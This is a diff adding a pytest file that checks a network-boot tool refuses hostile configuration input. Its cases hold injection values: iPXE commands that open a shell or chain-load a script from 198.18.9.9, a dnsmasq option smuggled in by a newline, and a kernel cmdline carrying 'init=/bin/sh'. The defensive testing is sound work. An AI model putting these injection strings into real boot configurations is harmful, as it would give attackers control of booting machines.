@@ -1,0 +1,316 @@
+"""Hostile and careless input (issue 14): every case is the real command
+line on real files. A bad input gets one line naming the file, section and
+key, never the file's content, exit status 2, and leaves the configuration,
+the state and the generated files byte-identical."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import tempfile
+from pathlib import Path
+
+import pytest
+
+from conftest import PYTHON, REPO, cli, random_image, tree, wait_for
+from test_registry import add, assert_bad_input, registry
+
+PIVOTAL_JSON = "etc/boottorrent/pivotal.json"
+
+
+def pivotal_json(state_dir: Path) -> dict:
+    cpio = state_dir / "current" / "boot" / "pivotal" / "config.cpio"
+    out = subprocess.run(["cpio", "-i", "--quiet", "--to-stdout", PIVOTAL_JSON],
+                         input=cpio.read_bytes(), capture_output=True, check=True).stdout
+    return json.loads(out)
+
+
+def refused(result: subprocess.CompletedProcess, path: Path, expected: str,
+            trees_before: tuple, *trees_now: Path) -> None:
+    """One error line naming path and expected, exit 2, nothing changed."""
+    assert_bad_input(result, str(path), expected)
+    assert tuple(tree(t) for t in trees_now) == trees_before
+
+
+# ---------------------------------------------------------------- 1. the iPXE script
+
+@pytest.mark.parametrize("description", [
+    "'''Compute\nshell\nchain http://198.18.9.9/evil.ipxe'''",
+    "x || shell",
+    "${net0/mac}",
+])
+def test_description_cannot_reach_the_ipxe_script(description, image_files, config_dir,
+                                                   state_dir):
+    assert add(image_files, config_dir, state_dir).returncode == 0
+    conf = config_dir / "images.d" / "evil.conf"
+    conf.write_text(f"kernel = {image_files['vmlinuz']}\ndescription = {description}\n")
+    before = tree(config_dir), tree(state_dir)
+    for command in (["add-image", "evil"], ["check"]):
+        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
+        refused(result, conf, "description: must be one line of printable ASCII", before,
+                config_dir, state_dir)
+    script = (state_dir / "current" / "boot" / "boot.ipxe").read_text()
+    assert "shell" not in script and "evil" not in script
+
+
+def test_description_option_is_checked_the_same_way(image_files, config_dir, state_dir):
+    before = tree(config_dir), tree(state_dir)
+    result = cli("add-image", "evil", "--kernel", image_files["vmlinuz"],
+                 "--description", "x || chain http://198.18.9.9/", config_dir=config_dir,
+                 state_dir=state_dir)
+    refused(result, config_dir / "images.d" / "evil.conf", "description:", before,
+            config_dir, state_dir)
+
+
+# ---------------------------------------------------------------- 2. [server] interface
+
+@pytest.mark.parametrize("interface", [
+    "'*'", "'eth0,eth1'", "'eth 0'", "abcdefghijklmnop",
+    "'''eth0\ndhcp-range=198.18.0.2,198.18.0.3'''",
+])
+def test_interface_must_be_an_interface_name(interface, image_files, config_dir, state_dir):
+    assert add(image_files, config_dir, state_dir).returncode == 0
+    conf = config_dir / "boottorrent.conf"
+    conf.write_text(conf.read_text().replace("interface = eth0", f"interface = {interface}"))
+    before = tree(config_dir), tree(state_dir)
+    for command in ("generate", "check"):
+        result = cli(command, config_dir=config_dir, state_dir=state_dir)
+        refused(result, conf, "[server] interface: ", before, config_dir, state_dir)
+    assert "dhcp-range=198.18.0.2" not in (state_dir / "current" / "dnsmasq.conf").read_text()
+
+
+# ---------------------------------------------------------------- 3. command lines
+
+def test_cmdline_with_nul_is_refused(image_files, config_dir, state_dir):
+    conf = config_dir / "images.d" / "nul.conf"
+    conf.write_text(f"kernel = {image_files['vmlinuz']}\ncmdline = 'quiet\0init=/bin/sh'\n")
+    before = tree(config_dir), tree(state_dir)
+    result = cli("add-image", "nul", config_dir=config_dir, state_dir=state_dir)
+    refused(result, conf, "cmdline: the kernel command line must be one line without control "
+            "characters", before, config_dir, state_dir)
+
+
+def test_cmdline_longer_than_the_kernel_takes(image_files, config_dir, state_dir):
+    # 2047 bytes in all, less the 28 of " BOOTIF=01-xx-xx-xx-xx-xx-xx".
+    longest = "x" * (2047 - 28)
+    before = tree(config_dir), tree(state_dir)
+    result = cli("add-image", "long", "--kernel", image_files["vmlinuz"],
+                 "--cmdline", longest + "x", config_dir=config_dir, state_dir=state_dir)
+    refused(result, config_dir / "images.d" / "long.conf",
+            "cmdline: is 2020 bytes; the kernel takes at most 2019 here", before,
+            config_dir, state_dir)
+    result = cli("add-image", "long", "--kernel", image_files["vmlinuz"], "--cmdline", longest,
+                 config_dir=config_dir, state_dir=state_dir)
+    assert result.returncode == 0, result.stderr
+    assert pivotal_json(state_dir)["images"]["long"]["cmdline"] == longest
+
+
+def test_pivotal_cmdline_cannot_reach_the_ipxe_script(image_files, config_dir, state_dir):
+    assert add(image_files, config_dir, state_dir).returncode == 0
+    conf = config_dir / "boottorrent.conf"
+    conf.write_text(conf.read_text().replace("[pivotal]\n", "[pivotal]\n"
+                                             "cmdline = 'console=ttyS0 || shell'\n"))
+    before = tree(config_dir), tree(state_dir)
+    result = cli("generate", config_dir=config_dir, state_dir=state_dir)
+    refused(result, conf, "[pivotal] cmdline: must be one line of printable ASCII", before,
+            config_dir, state_dir)
+
+
+# ---------------------------------------------------------------- 4. not a kernel
+
+def test_kernel_that_is_not_a_kernel(config_dir, state_dir, tmp_path):
+    text = tmp_path / "notakernel"
+    text.write_text("not a kernel\n")
+    before = tree(config_dir), tree(state_dir)
+    result = cli("add-image", "x", "--kernel", text, config_dir=config_dir, state_dir=state_dir)
+    refused(result, config_dir / "images.d" / "x.conf",
+            f"kernel: {text}: not an x86 Linux kernel (bzImage)", before, config_dir, state_dir)
+
+
+# ---------------------------------------------------------------- 5. the default image
+
+def test_default_image_is_the_first_registered(image_files, config_dir, state_dir):
+    first = add(image_files, config_dir, state_dir, name="zzz")
+    assert first.returncode == 0, first.stderr
+    assert "default image: zzz (the first registered;" in first.stdout
+    second = add(image_files, config_dir, state_dir, name="aaa")
+    assert second.returncode == 0, second.stderr
+    # Registering another image does not change what unmapped machines boot.
+    assert "default image: zzz (the first registered;" in second.stdout
+    assert pivotal_json(state_dir)["default_image"] == "zzz"
+    check = cli("check", config_dir=config_dir, state_dir=state_dir)
+    assert "default image: zzz" in check.stdout, check.stderr
+    # Re-registering keeps its place; removing it makes the next one default.
+    (image_files["vmlinuz"]).write_bytes(image_files["vmlinuz"].read_bytes()[:-1] + b"!")
+    assert cli("add-image", "zzz", config_dir=config_dir, state_dir=state_dir).returncode == 0
+    assert pivotal_json(state_dir)["default_image"] == "zzz"
+    removed = cli("remove-image", "zzz", config_dir=config_dir, state_dir=state_dir)
+    assert "default image: aaa" in removed.stdout, removed.stderr
+    assert pivotal_json(state_dir)["default_image"] == "aaa"
+
+
+# ---------------------------------------------------------------- 6. FIFOs
+
+def test_fifo_as_kernel_initrd_or_description(image_files, config_dir, state_dir, tmp_path):
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    before = tree(config_dir), tree(state_dir)
+    result = cli("add-image", "x", "--kernel", fifo, config_dir=config_dir,
+                 state_dir=state_dir, timeout=60)
+    refused(result, config_dir / "images.d" / "x.conf", f"kernel: {fifo}: cannot read: not a "
+            "regular file", before, config_dir, state_dir)
+    conf = config_dir / "images.d" / "y.conf"
+    conf.write_text(f"kernel = {image_files['vmlinuz']}\ninitrd = {fifo},\n")
+    before = tree(config_dir), tree(state_dir)
+    for command in (["add-image", "y"], ["check"]):
+        result = cli(*command, config_dir=config_dir, state_dir=state_dir, timeout=60)
+        refused(result, conf, f"initrd: {fifo}: cannot read: not a regular file", before,
+                config_dir, state_dir)
+    conf.unlink()
+    os.mkfifo(conf)
+    result = cli("check", config_dir=config_dir, state_dir=state_dir, timeout=60)
+    assert_bad_input(result, str(conf), "cannot read: not a regular file")
+
+
+# ---------------------------------------------------------------- 7. ports
+
+@pytest.mark.parametrize("section,key", [("seeder", "port"), ("seeder", "http_port")])
+def test_port_shared_with_the_tracker(section, key, image_files, config_dir, state_dir):
+    assert add(image_files, config_dir, state_dir).returncode == 0
+    conf = config_dir / "boottorrent.conf"
+    conf.write_text(conf.read_text() + f"[{section}]\n{key} = 6969\n")
+    before = tree(config_dir), tree(state_dir)
+    for command in ("check", "generate"):
+        result = cli(command, config_dir=config_dir, state_dir=state_dir)
+        refused(result, conf, f"[{section}] {key}: 6969 is [tracker] port already", before,
+                config_dir, state_dir)
+
+
+# ---------------------------------------------------------------- 9. check does not lie
+
+def test_check_and_generate_agree_on_unregistered_default(image_files, config_dir, state_dir):
+    assert add(image_files, config_dir, state_dir, name="other").returncode == 0
+    (config_dir / "images.d" / "compute.conf").write_text(f"kernel = {image_files['vmlinuz']}\n")
+    conf = config_dir / "boottorrent.conf"
+    conf.write_text(conf.read_text().replace("[boot]\n", "[boot]\ndefault_image = compute\n"))
+    before = tree(config_dir), tree(state_dir)
+    expected = ("[boot] default_image: image 'compute' is described in images.d/ but not "
+                "registered; run `boottorrent-add-image compute`")
+    for command in ("check", "generate"):
+        refused(cli(command, config_dir=config_dir, state_dir=state_dir), conf, expected,
+                before, config_dir, state_dir)
+
+
+def test_check_when_images_d_is_not_a_folder(config_dir, state_dir):
+    images_d = config_dir / "images.d"
+    images_d.rmdir()
+    images_d.write_text("")
+    result = cli("check", config_dir=config_dir, state_dir=state_dir)
+    assert_bad_input(result, str(images_d), "cannot list: Not a directory")
+
+
+def test_check_when_it_may_not_read(config_dir, state_dir, pivotal_kernel):
+    """As an unprivileged user (root reads everything): a folder it may not
+    list is a problem named as such, and the other problems are still shown."""
+    top = Path(tempfile.mkdtemp(prefix="boottorrent-check-"))
+    try:
+        top.chmod(0o755)
+        etc = top / "etc"
+        subprocess.run(["cp", "-a", str(config_dir), str(etc)], check=True)
+        etc.chmod(0o755)
+        (etc / "boottorrent.conf").chmod(0o644)
+        images_d = etc / "images.d"
+        images_d.chmod(0o000)
+        (etc / "boottorrent.conf").write_text((etc / "boottorrent.conf").read_text()
+                                              + "[seeder]\nport = 6969\n")
+
+        def check() -> subprocess.CompletedProcess:
+            return subprocess.run(
+                ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", PYTHON, "-m",
+                 "boottorrent", "check", "--config-dir", str(etc), "--state-dir", str(state_dir)],
+                capture_output=True, text=True, cwd=REPO, env={**os.environ,
+                                                               "PYTHONPATH": str(REPO)})
+        result = check()
+        assert result.returncode == 2, result
+        lines = result.stderr.splitlines()
+        assert any(f"{images_d}: cannot list: Permission denied" in line for line in lines), lines
+        assert any("[seeder] port: 6969 is [tracker] port already" in line for line in lines), lines
+        assert "configuration OK" not in result.stdout
+
+        etc.chmod(0o000)
+        result = check()
+        assert result.returncode == 2, result
+        lines = result.stderr.splitlines()
+        assert any(f"{etc}/boottorrent.conf: cannot read: Permission denied" in line
+                   for line in lines), lines
+        assert any(f"{images_d}: cannot list: Permission denied" in line for line in lines), lines
+    finally:
+        for path in (top, top / "etc", top / "etc" / "images.d"):
+            if path.exists():
+                path.chmod(0o755)
+        subprocess.run(["rm", "-rf", str(top)], check=True)
+
+
+# ---------------------------------------------------------------- 10. races and kills
+
+def big_kernel(tmp_path: Path, mib: int = 400) -> Path:
+    return random_image(tmp_path / "big", "big", {"kernel": mib << 20})["kernel"]
+
+
+def add_big(kernel: Path, config_dir: Path, state_dir: Path) -> subprocess.Popen:
+    return subprocess.Popen(
+        [PYTHON, "-m", "boottorrent", "add-image", "big", "--kernel", str(kernel),
+         "--config-dir", str(config_dir), "--state-dir", str(state_dir)],
+        cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+
+
+def storing(state_dir: Path) -> bool:
+    """A registration is in the middle of copying its files."""
+    return any((state_dir / "images").glob(".new-*/big/kernel"))
+
+
+def test_two_add_image_at_once(image_files, config_dir, state_dir, tmp_path):
+    kernel = big_kernel(tmp_path, 200)
+    first = add_big(kernel, config_dir, state_dir)
+    wait_for(lambda: storing(state_dir) or first.poll() is not None, 60, "the first to store")
+    second = add_big(kernel, config_dir, state_dir)
+    results = [(p, *p.communicate(timeout=300)) for p in (first, second)]
+    assert first.returncode == 0, results[0]
+    _, _, stderr = results[1]
+    assert second.returncode == 2, results[1]
+    assert "big.conf: image 'big' exists already" in stderr
+    assert list(registry(state_dir)) == ["big"]
+
+
+def test_kill_during_registration_is_undone_by_the_next_command(image_files, config_dir,
+                                                               state_dir, tmp_path):
+    assert add(image_files, config_dir, state_dir).returncode == 0
+    before = tree(config_dir), tree(state_dir)
+    kernel = big_kernel(tmp_path)
+    process = add_big(kernel, config_dir, state_dir)
+    wait_for(lambda: storing(state_dir), 60, "the registration to be storing its files")
+    assert (config_dir / "images.d" / "big.conf").exists()
+    process.send_signal(signal.SIGKILL)
+    process.communicate(timeout=30)
+    # The next command (here one that changes nothing) undoes what was left.
+    again = cli("add-image", "compute", config_dir=config_dir, state_dir=state_dir)
+    assert again.returncode == 0 and "unchanged" in again.stdout, again.stderr
+    assert (tree(config_dir), tree(state_dir)) == before
+    # And the image can be added as if nothing had happened.
+    assert add_big(kernel, config_dir, state_dir).wait(300) == 0
+    assert list(registry(state_dir)) == ["compute", "big"]
+
+
+# ---------------------------------------------------------------- 11. no content echoed
+
+def test_parse_error_names_the_line_not_its_content(config_dir, state_dir, tmp_path):
+    secret = tmp_path / "shadow"
+    secret.write_text("root:$y$j9T$SECRETHASH:19000:0:99999:7:::\n")
+    link = config_dir / "images.d" / "leak.conf"
+    link.symlink_to(secret)
+    for command in (["check"], ["add-image", "leak"]):
+        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
+        assert_bad_input(result, str(link), "line 1: not valid configobj syntax")
+        assert "SECRETHASH" not in result.stdout + result.stderr
